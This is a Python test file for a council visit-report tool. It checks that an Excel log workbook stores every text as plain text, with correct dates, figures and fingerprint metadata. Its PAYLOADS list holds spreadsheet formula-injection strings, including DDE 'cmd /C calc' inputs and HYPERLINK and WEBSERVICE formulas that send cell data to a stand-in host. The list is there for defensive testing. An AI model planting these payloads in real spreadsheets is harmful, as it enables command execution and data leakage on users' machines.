"""The log in Excel: a spreadsheet runs nothing of it, types are what they say, and every figure can be traced."""

import io
import re
from collections.abc import Iterator, Mapping
from datetime import UTC, datetime
from enum import Enum
from typing import Any, Final
from zipfile import ZipFile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from bot.documents.report.log import log_workbook
from bot.documents.report.log_words import FIGURES, SHEETS
from bot.documents.workbook import LONGEST, Book, Column, Properties, plain
from tests.bot.documents.report_content import COUNCIL, empty, in_progress, one_visit, report_of, rich
from visits.figures import AnnualFigures, IssueFigures, TookPart, VisitFigures
from visits.model import Value
from visits.report import ReportContent, Version

AT: Final = datetime(2027, 5, 20, 9, 30, tzinfo=UTC)
PAYLOADS: Final = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2", "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"Click")', '=IMPORTXML("http://x.example","//a")', '=WEBSERVICE("http://x.example")',
    '=DDE("cmd";"/C calc";"x")', "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "  =1+1",
    "\u200b=1+1", "\ufeff=1+1", "'=1+1", "''=1+1", '"=1+1"', "=1+1;=2+2", "={1,2}", "#REF!", "#NAME?", "0042", "1e9", "TRUE",
    "2027-03-01", "%0A=1+1", "=\x00\x011+1", "|cmd", "<f>1+1</f>", "]]><f>1+1</f>", "=SUM(A1:A9)\ud800",
)  # fmt: skip


def with_payload(value: Any, payload: str) -> Any:
    """The value with every text in it replaced, at any depth; keys, dates, numbers and choices stay."""
    match value:
        case Enum():
            return value
        case str():
            return payload
        case Value():
            fields = {name: with_payload(getattr(value, name), payload) for name in type(value).model_fields}
            return value.model_copy(update=fields)
        case tuple():
            return tuple(with_payload(one, payload) for one in value)
        case Mapping():
            return {key: with_payload(one, payload) for key, one in value.items()}
        case _:
            return value


def reopened(data: bytes) -> Workbook:
    return load_workbook(io.BytesIO(data))


def cells_of(data: bytes) -> Iterator[Any]:
    """Every cell of every sheet that holds something."""
    for sheet in reopened(data).worksheets:
        for row in sheet.iter_rows():
            yield from (cell for cell in row if cell.value is not None)


def rows(data: bytes, sheet: str) -> list[dict[str, Any]]:
    """The rows of a sheet by heading."""
    head, *others = reopened(data)[sheet].iter_rows(values_only=True)
    return [dict(zip(map(str, head), row, strict=True)) for row in others]


def the_log(content: ReportContent) -> bytes:
    return log_workbook(content, report_of(content))


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_nothing_in_any_text_field_is_ever_a_formula_and_the_text_is_all_there(payload: str) -> None:
    content = with_payload(rich(Version.RESTRICTED), payload)
    data = the_log(content)
    told = plain(payload)
    texts = [cell for cell in cells_of(data) if isinstance(cell.value, str)]
    assert {cell.data_type for cell in texts} == {"s"}
    with ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert len(sheets) == len(SHEETS) + 1
    for xml in sheets:
        assert not re.search(rb"<f[ >/]", xml)
        assert set(re.findall(rb'<c [^>]*\bt="(\w+)"', xml)) <= {b"inlineStr", b"n", b"s"}
    issues = rows(data, "Issues and answers")
    assert len(issues) >= 12
    assert all(row["Issue"] == told for row in issues if not row["Confidential"] or row["Issue"])
    assert {row["Answer"] for row in issues if row["Answer number"]} <= {told, None}
    assert {row["Words"] for row in rows(data, "Quotations")} == {told}
    assert {row["Councillors"] for row in rows(data, "Visits")} <= {told, f"{told}; {told}", f"{told}; {told}; {told}"}


@pytest.mark.parametrize("payload", ["=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "  =1", "＝1", "'=1"])
def test_a_text_that_begins_like_a_formula_stays_a_text_when_somebody_edits_its_cell(payload: str) -> None:
    (cell,) = [cell for cell in cells_of(one_cell(payload)) if cell.row == 2]
    assert cell.quotePrefix


def one_cell(value: str) -> bytes:
    book = Book(Properties("Test", AT))
    book.sheet("Texts", [Column("Text")]).add(value)
    return book.data()


@settings(max_examples=60, deadline=None)
@given(st.text(st.characters(codec=None), min_size=1, max_size=60))
def test_whatever_a_text_is_the_workbook_opens_and_has_it(text: str) -> None:
    found = [cell for cell in cells_of(one_cell(text)) if cell.row == 2]
    assert [cell.value for cell in found] == ([plain(text)] if plain(text) else [])


def test_a_text_too_long_for_a_cell_is_cut_with_a_mark() -> None:
    (cell,) = [cell for cell in cells_of(one_cell("🦊" * LONGEST)) if cell.row == 2]
    assert len(cell.value.encode("utf-16-le")) // 2 <= LONGEST
    assert cell.value.endswith(f"(cut: it has {LONGEST} characters)")
    assert plain("a" * LONGEST) == "a" * LONGEST


def test_a_row_with_a_cell_too_few_is_a_mistake() -> None:
    book = Book(Properties("Test", AT))
    sheet = book.sheet("Texts", [Column("A"), Column("B")])
    with pytest.raises(ValueError, match="1 cells for 2 columns"):
        sheet.add("a")
    assert len(list(cells_of(book.data()))) == 2


@pytest.mark.parametrize("content", [empty(), one_visit(), in_progress(), rich()], ids=["none", "one", "begun", "rich"])
def test_every_sheet_is_there_with_a_frozen_header_that_filters_and_is_printed_on_each_page(
    content: ReportContent,
) -> None:
    book = reopened(the_log(content))
    assert book.sheetnames == ["About", *SHEETS]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == sheet.dimensions
        assert sheet.print_title_rows == "$1:$1"
        assert all(cell.font.bold for cell in sheet[1])
        assert all(held.width >= 8 for held in sheet.column_dimensions.values())


def test_dates_are_dates_written_the_british_way_and_numbers_are_numbers() -> None:
    content = rich()
    book = reopened(the_log(content))
    assert isinstance(book["Visits"]["B2"].value, datetime)
    assert book["Visits"]["B2"].number_format == "dd mmm yyyy"
    assert book["Visits"]["B2"].value.date() == content.visits[0].visit_date
    coverage = rows(the_log(content), "Coverage")
    assert coverage[-1]["Planned"] == content.figures.visits.planned.number
    assert coverage[-1]["Took place in all"] == content.figures.visits.done
    assert len(coverage) == len(content.figures.teams) + 1


def test_each_answer_is_in_a_row_with_its_issue_and_an_issue_without_one_has_a_row() -> None:
    content = rich(Version.RESTRICTED)
    listed = rows(the_log(content), "Issues and answers")
    pairs: list[tuple[str, int | None]]
    pairs = [(issue.reference, number) for issue in content.issues for number in range(1, len(issue.answers) + 1)]
    pairs += [(issue.reference, None) for issue in content.issues if not issue.answers]
    assert sorted(map(str, pairs)) == sorted(str((row["Reference"], row["Answer number"])) for row in listed)
    assert any(not issue.answers for issue in content.issues)
    with_answer = {(row["Reference"], row["Answer"]) for row in listed}
    for issue in content.issues:
        assert all((issue.reference, answer.text or None) in with_answer for answer in issue.answers)


def test_every_figure_is_there_with_as_many_references_as_it_says() -> None:
    content = rich()
    listed = rows(the_log(content), "Figures")
    named = {row["Figure"]: row for row in listed}
    planned = named["Visits planned on the rota"]
    assert (planned["Number"], planned["Counts"]) == (
        content.figures.visits.planned.number, "; ".join(content.figures.visits.planned.of),
    )  # fmt: skip
    raised = named["Issues raised"]
    assert raised["Counts"].split("; ") == list(content.figures.issues.raised.of)
    counted = [row for row in listed if row["Counts"] and "working days" not in row["Figure"].lower()]
    assert len(counted) > 50
    assert not [row for row in counted if len(row["Counts"].split("; ")) != row["Number"]]
    repeated = {row["Figure"] for row in listed if [one["Figure"] for one in listed].count(row["Figure"]) > 1}
    assert all(name.startswith("Came up more than once") for name in repeated), repeated


def test_a_figure_that_counts_very_many_has_them_all() -> None:
    content = rich()
    many = tuple(f"V26-{number:04d}/1" for number in range(1, 3_002))
    raised = content.figures.issues.raised.model_copy(update={"of": many})
    issues = content.figures.issues.model_copy(update={"raised": raised})
    figures = content.figures.model_copy(update={"issues": issues})
    listed = rows(the_log(content.model_copy(update={"figures": figures})), "Figures")
    mine = [row for row in listed if row["Figure"].startswith("Issues raised")]
    assert [row["Number"] for row in mine] == [3_001, *[None] * 6]
    assert "; ".join(row["Counts"] for row in mine).split("; ") == list(many)


@pytest.mark.parametrize("whole", [VisitFigures, IssueFigures, TookPart, AnnualFigures])
def test_every_figure_has_a_name(whole: type[Value]) -> None:
    """If this fails, name the new figure in log_words.FIGURES."""
    not_counted = {"period", "cut_off", "in_progress", "teams", "topics", "by_team"}
    assert not whole.model_fields.keys() - FIGURES.keys() - not_counted


def test_the_first_sheet_says_what_it_is_and_the_file_has_the_fingerprint() -> None:
    content = rich(Version.RESTRICTED)
    report = report_of(content)
    data = log_workbook(content, report)
    about = {row["About"]: row["This report"] for row in rows(data, "About")}
    assert about["Council"] == COUNCIL
    assert (about["Version"], about["Standing"]) == ("restricted", "final")
    assert about["Fingerprint (SHA-256)"] == report.hash
    assert about["Paragraph of Schedule 12A"] == "3"
    held = reopened(data).properties
    assert (held.identifier, held.creator) == (report.hash, COUNCIL)
    assert held.created == held.modified == report.at.replace(tzinfo=None)


def test_the_same_report_gives_the_same_bytes() -> None:
    first, second = the_log(rich()), the_log(rich())
    assert first == second
    with ZipFile(io.BytesIO(first)) as archive:
        assert {info.date_time for info in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
